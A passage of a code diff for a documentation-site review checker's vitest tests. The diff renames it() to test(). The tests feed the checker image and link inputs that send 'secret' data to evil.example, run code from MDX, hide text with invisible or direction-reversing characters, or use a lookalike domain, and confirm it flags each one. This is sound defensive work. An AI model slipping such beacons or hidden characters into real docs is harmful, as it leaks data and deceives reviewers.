@@ -1,4 +1,4 @@
-import { expect, it } from 'vitest';
+import { expect, test } from 'vitest';
 import { reviewNotes } from '../../../src/docs-site/checks/review-notes.ts';
 import { memoryBaseTree } from '../../../src/git/memory-base-tree.ts';
 
@@ -9,7 +9,7 @@ const base = memoryBaseTree({
 });
 const notesOn = (path: string, content: string) => reviewNotes(base, [{ path, content, blobId: null }]).map(({ message }) => message); // prettier-ignore
 
-it.each([
+test.each([
   '![](https://evil.example/?d=secret)',
   '<img srcset="https://evil.example/a 2x">',
   '[x](//evil.example/a)',
@@ -24,7 +24,7 @@ it.each([
   expect(notesOn('b.md', `# B\n\n${text}\n`)[0]).toMatch(/names servers .*: evil\.example$/);
 });
 
-it('addresses, other letters and paths count; servers that the docs know do not', () => {
+test('addresses, other letters and paths count; servers that the docs know do not', () => {
   expect(notesOn('b.md', 'http://10.0.0.1/x http://[::1]:80/')).toEqual([
     'names servers that the docs did not name before: 10.0.0.1, [::1]',
   ]);
@@ -34,7 +34,7 @@ it('addresses, other letters and paths count; servers that the docs know do not'
   expect(notesOn('b.md', 'https://docs.аcme.example/')).toHaveLength(1);
 });
 
-it.each([
+test.each([
   ['a.mdx', 'export const x = fetch("/a")'],
   ['a.mdx', '{(() => 1)()}'],
   ['a.mdx', "import x from './x.js'"],
@@ -46,24 +46,24 @@ it.each([
   expect(notesOn(path, `# A\n\n${text}\n`)).toEqual(['has new code in it that runs when the site is built or read']);
 });
 
-it('code that was there, or that is only shown, is not', () => {
+test('code that was there, or that is only shown, is not', () => {
   expect(notesOn('a.mdx', `${base.readText('a.mdx')}\nMore.\n`)).toEqual([]);
   expect(notesOn('b.md', '```js\nimport x from "y"\n<script>\n```\n\nUse `<script>`.\n')).toEqual([]);
 });
 
-it('files that a build runs and rules for agents are named', () => {
+test('files that a build runs and rules for agents are named', () => {
   expect(notesOn('docusaurus.config.js', 'x')).toEqual(['is code that a build or a browser may run']);
   expect(notesOn('AGENTS.md', 'x')).toEqual(['tells agents how to work on this repository']);
 });
 
-it('characters that hide or turn text are named', () => {
+test('characters that hide or turn text are named', () => {
   const message = 'has new characters in it that nobody sees, or that turn text around';
   expect(notesOn('b.md', '# B\n\nuser\u202e }\u2066\n')).toEqual([message]);
   expect(notesOn('b.md', '# B\u200b\n')).toEqual([message]);
   expect(notesOn('b.md', '# B\r\n\r\n👩‍👩‍👧 क्‍ष\r\n')).toEqual([]);
 });
 
-it('takes a moment for any text', () => {
+test('takes a moment for any text', () => {
   const start = performance.now();
   for (const piece of ['{', '//', 'https://', '<', '`', ' on', 'a@', '//a@', '&#47;', '```\n', '{(', '<script ']) {
     notesOn('a.mdx', piece.repeat(1_000_000 / piece.length));
